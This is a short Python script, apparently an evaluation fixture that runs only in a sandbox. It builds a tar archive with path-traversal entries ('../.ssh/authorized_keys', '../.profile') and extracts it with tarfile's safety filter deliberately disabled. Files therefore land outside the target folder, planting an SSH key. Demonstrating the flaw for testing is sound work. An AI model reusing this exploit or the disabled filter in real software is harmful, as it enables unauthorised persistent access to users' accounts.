"""Makes the archive, and unpacks it as careless applications do."""

import io
import os
import tarfile

if not os.path.exists("/.sandbox"):
    raise SystemExit("runs in the sandbox only: evals/README.md")

with tarfile.open("/tmp/model.tar", "w") as packed:
    for name, text in (("../.ssh/authorized_keys", b"ssh-ed25519 AAAA other\n"), ("../.profile", b"true\n")):
        entry = tarfile.TarInfo(name)
        entry.size = len(text)
        packed.addfile(entry, io.BytesIO(text))
os.makedirs(os.path.expanduser("~/unpacked"))
with tarfile.open("/tmp/model.tar") as packed:
    packed.extraction_filter = staticmethod(lambda member, path: member)
    packed.extractall(os.path.expanduser("~/unpacked"))
